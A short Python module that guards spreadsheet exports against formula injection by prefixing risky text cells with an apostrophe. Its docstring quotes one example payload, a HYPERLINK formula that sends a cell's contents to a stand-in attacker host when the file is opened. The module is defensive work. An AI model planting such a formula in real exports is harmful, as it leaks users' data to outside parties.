"""Cells safe to open in a spreadsheet.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (or the start of one), so an answer such
as `=HYPERLINK("http://evil.example/?"&A1, "click")` would run when the export is opened.
Such text is prefixed with an apostrophe, which spreadsheets treat as "this is text".
Numbers stay numbers: -3 is a value, not a formula, in both CSV and XLSX.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
